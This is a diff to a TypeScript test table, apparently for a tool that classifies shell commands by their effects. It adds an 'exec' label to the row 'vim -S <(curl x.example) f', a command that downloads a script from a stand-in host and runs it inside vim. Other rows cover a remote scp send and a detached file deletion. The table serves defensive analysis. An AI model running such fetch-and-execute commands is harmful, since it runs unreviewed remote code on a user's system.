@@ -95,7 +95,10 @@ const ROWS: readonly (readonly [command: string, told: string])[] = [
   ["vim -es f <<< 'wq'", 'known ; read:./f ; write:./f'],
   ['screen -S x -dm rm a', 'known ; service:screen:create ; delete:./a'],
   ['vim scp://host/f', 'known ; send:scp://host/f'],
-  ['vim -S <(curl x.example) f', 'unknown ; receive:x.example:download ; read:./f ; write:./f'],
+  [
+    'vim -S <(curl x.example) f',
+    'unknown ; receive:x.example:download ; exec:?vim runs what another command prints:unseen ; read:./f ; write:./f',
+  ],
 ];
 
 test.each(ROWS)('%s', (command, expected) => {
